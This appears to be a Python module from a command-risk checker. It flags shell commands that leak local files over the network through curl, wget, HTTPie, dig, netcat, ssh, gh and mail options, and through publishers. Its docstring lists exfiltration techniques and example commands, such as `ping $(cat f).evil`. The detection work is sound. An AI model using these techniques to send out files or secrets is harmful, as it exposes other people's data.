"""What goes out over the network: a network tool given local data, a publisher, an address
built at run time; and the network tools told, in an option, to read a local file into what they
send.

Any network client that reads what it sends from its input, sends a file (`curl -T`, `--data
@f`), or uploads to `host:` (scp, rsync, sftp); a publisher (`npm publish`, `gh gist create`, `aws
s3 cp`); an address built at run time (`curl https://x/$(cat f)`, `ping $(cat f).evil`): each is
`shell.exfiltrate` (`judge_network`). A local command in ssh's options runs a program.

curl reads a file into a form field (`-F 'f=<file'` as text, `-F 'f=@file'` as an upload), into
headers (`-H @file`), the query (`--url-query @file`), variables (`--variable n@file`) and
cookies (`-b file`), and all of its options from a config file (`-K cfg`: `data = @secret`);
wget runs wgetrc commands (`-e post_file=...`), reads its URLs from a file (`-i file`: each line
goes out as a request) and its config from one; HTTPie sends `@file` and `field@file`; dig
looks up every name in a file (`-f`); aria2c fetches every URL in a file; gh uploads files and
sends them as bodies; mail attaches them; sftp runs batch files of puts; ssh and scp read a
config that can run a local command; netcat runs a program for each connection. Each is
`shell.exfiltrate` or `shell.option_runs_program` (HIGH).
"""

from __future__ import annotations

import re

from .command_risk import address_built_at_run_time, base_program, is_option, operands_of, option_value
from .command_tables import ADDRESS_CLIENTS, DOWNLOADERS, NETWORK_CLIENTS, PUBLISHERS, UPLOAD_OPTIONS
from .judging import Context
from .shell import SimpleCommand


def _values(args: list[str], *options: str) -> list[str]:
    return [v for k in range(len(args)) for o in options if (v := option_value(args, k, o)) is not None]


def _sends(ctx: Context, cmd: SimpleCommand, what: str) -> None:
    ctx.found.add("shell.exfiltrate", f"{cmd.program} {what}")


def judge_curl(cmd: SimpleCommand, ctx: Context) -> None:
    args = cmd.args
    for value in _values(args, "-F", "--form"):
        if re.search(r"=\s*[<@]", value):
            _sends(ctx, cmd, f"-F {value!r}: the form field is a local file")
    for option in ("-H", "--header", "--proxy-header", "--url-query", "--variable", "--json"):
        for value in _values(args, option):
            if value.startswith("@") or (option in ("--url-query", "--variable") and "@" in value):
                _sends(ctx, cmd, f"{option} {value!r}: reads what it sends from a file")
    for value in _values(args, "-b", "--cookie"):
        if value and "=" not in value:
            _sends(ctx, cmd, f"-b {value!r}: sends the cookies a file holds")
    for value in _values(args, "-K", "--config", "--netrc-file"):
        _sends(ctx, cmd, f"reads its options (or credentials) from {value!r}, which can send any file")
    if any(a.lower().startswith("file:") for a in operands_of(cmd)) and any(
            is_option(a, o) for a in args for o in ("-T", "--upload-file", "-d", "--data", "-F", "--form")):
        _sends(ctx, cmd, "reads a local file: URL and sends it on")


_WGETRC_SENDS = re.compile(r"(?i)^\s*(post_?file|body_?file|post_?data|body_?data|method|header|"
                           r"use_?askpass|input|output_?document|execute)\s*=")


def judge_wget(cmd: SimpleCommand, ctx: Context) -> None:
    args = cmd.args
    for value in _values(args, "-e", "--execute"):
        _sends(ctx, cmd, f"-e {value!r}: a wgetrc command, which can send a file or run a program")
    for value in _values(args, "-i", "--input-file"):
        _sends(ctx, cmd, f"-i {value!r}: every line of that file goes out as a request")
    for value in _values(args, "--config"):
        _sends(ctx, cmd, f"--config {value!r}: its settings can send any file")
    for value in _values(args, "--use-askpass"):
        ctx.found.add("shell.option_runs_program", f"wget --use-askpass {value}")


HTTPIE = frozenset({"http", "https", "httpie", "xh", "xhs"})


def judge_httpie(cmd: SimpleCommand, ctx: Context) -> None:
    """HTTPie items: `@file` is the body, `field@file` uploads, `field=@file` and `field:=@file`
    embed a file's text."""
    for item in operands_of(cmd):
        if item.startswith("@") or re.match(r"^[^=:@]+(@|=@|:=@)", item):
            _sends(ctx, cmd, f"{item!r}: sends a local file")


def judge_dig(cmd: SimpleCommand, ctx: Context) -> None:
    """dig -f FILE looks up every name in FILE: its lines leave in DNS queries."""
    for value in _values(cmd.args, "-f"):
        _sends(ctx, cmd, f"-f {value!r}: looks up every line of a file")


def judge_nslookup(cmd: SimpleCommand, ctx: Context) -> None:
    """nslookup with its input fed looks up every line of it."""
    if cmd.piped_from is not None or any(r.op in ("<", "<<", "<<<", "<<-") for r in cmd.redirects):
        _sends(ctx, cmd, "looks up the names on its input")


def judge_aria2c(cmd: SimpleCommand, ctx: Context) -> None:
    for value in _values(cmd.args, "-i", "--input-file", "--conf-path"):
        _sends(ctx, cmd, f"reads what it fetches from {value!r}")


def judge_netcat(cmd: SimpleCommand, ctx: Context) -> None:
    for option in ("-e", "-c", "--exec", "--sh-exec", "--lua-exec"):
        if any(is_option(a, option, attached=len(option) == 2) for a in cmd.args):
            ctx.found.add("shell.option_runs_program", f"{cmd.program} {option}: runs a program for the connection")


def judge_ssh(cmd: SimpleCommand, ctx: Context) -> None:
    for value in _values(cmd.args, "-F"):
        ctx.found.add("shell.option_runs_program", f"{cmd.program} -F {value}: its ProxyCommand and LocalCommand run")
    if cmd.program == "sftp":
        for value in _values(cmd.args, "-b"):
            _sends(ctx, cmd, f"-b {value!r}: a batch of commands that can put any file")


def judge_gh(cmd: SimpleCommand, ctx: Context) -> None:
    """`gh api -F key=@file` and `--input file` send a file; so do an issue's, a pull request's or
    a comment's `--body-file` (`-F`)."""
    args = cmd.args
    if args[:1] == ["api"]:
        for value in _values(args, "-F", "--field"):
            if "=@" in value:
                _sends(ctx, cmd, f"api -F {value!r}: the field is a local file")
        for value in _values(args, "--input"):
            _sends(ctx, cmd, f"api --input {value!r}: the request body is a local file")
    elif args[:1] in (["issue"], ["pr"], ["release"], ["discussion"]):
        for value in _values(args, "-F", "--body-file", "--notes-file"):
            _sends(ctx, cmd, f"{' '.join(args[:2])} --body-file {value!r}: sends a local file")


def judge_mail(cmd: SimpleCommand, ctx: Context) -> None:
    for option in ("-A", "-a", "--attach"):
        for value in _values(cmd.args, option):
            if "@" not in value and ":" not in value:  # -a is a header in some mailx
                _sends(ctx, cmd, f"{option} {value!r}: attaches a local file")


JUDGES = {
    "curl": judge_curl, "wget": judge_wget, **{name: judge_httpie for name in HTTPIE},
    "dig": judge_dig, "nslookup": judge_nslookup, "aria2c": judge_aria2c,
    **{name: judge_netcat for name in ("nc", "ncat", "netcat")},
    **{name: judge_ssh for name in ("ssh", "scp", "sftp")}, "gh": judge_gh, "glab": judge_gh,
    **{name: judge_mail for name in ("mail", "mailx", "mutt", "s-nail")},
}


def judge_network(cmd: SimpleCommand, ctx: Context) -> None:
    """A publisher, an address built at run time, a network client sending a file or its input."""
    program = base_program(cmd.program)
    # Its words first: what it publishes, whether its input feeds it, a local command in its options.
    sub = cmd.args[0] if cmd.args else ""
    then = cmd.args[1] if len(cmd.args) > 1 else ""
    publishes = PUBLISHERS.get(program, {})
    fed = cmd.piped_from is not None or any(r.op in ("<", "<<", "<<<", "<<-") for r in cmd.redirects)
    local_command = any(re.search(r"(?i)(proxy|local)command|permitlocalcommand", arg) for arg in cmd.args)
    if "" in publishes or (sub in publishes and (not publishes[sub] or then in publishes[sub])):
        ctx.found.add("shell.exfiltrate", f"{cmd.program} {sub}: publishes or uploads what is here".replace("  ", " "))
    if program in NETWORK_CLIENTS or program in ADDRESS_CLIENTS:
        address_built_at_run_time(cmd, ctx)
    if program not in NETWORK_CLIENTS:
        return
    detail = ""
    for k in range(len(cmd.args)):
        for option in UPLOAD_OPTIONS:
            value = option_value(cmd.args, k, option)
            if value is not None and ("@" in value or option in ("-T", "--upload-file", "--post-file", "--body-file")):
                detail = f"{cmd.program} {option} {value}"
    if program not in DOWNLOADERS and fed:
        detail = detail or f"{cmd.program} reads what it sends from its input"
    if program in ("scp", "rsync", "sftp"):
        operands = [a for a in cmd.args if not a.startswith("-")]
        if len(operands) >= 2 and re.match(r"^[\w.@-]+:", operands[-1]) and "://" not in operands[-1]:
            detail = detail or f"{cmd.program} uploads to {operands[-1]}"
    if detail:
        ctx.found.add("shell.exfiltrate", detail)
    if local_command:
        ctx.found.add("shell.option_runs_program", f"{cmd.program}: a local command in its options")


NETWORK_PROGRAMS = NETWORK_CLIENTS | ADDRESS_CLIENTS | frozenset(PUBLISHERS)
NETWORK = {name: judge_network for name in NETWORK_PROGRAMS}
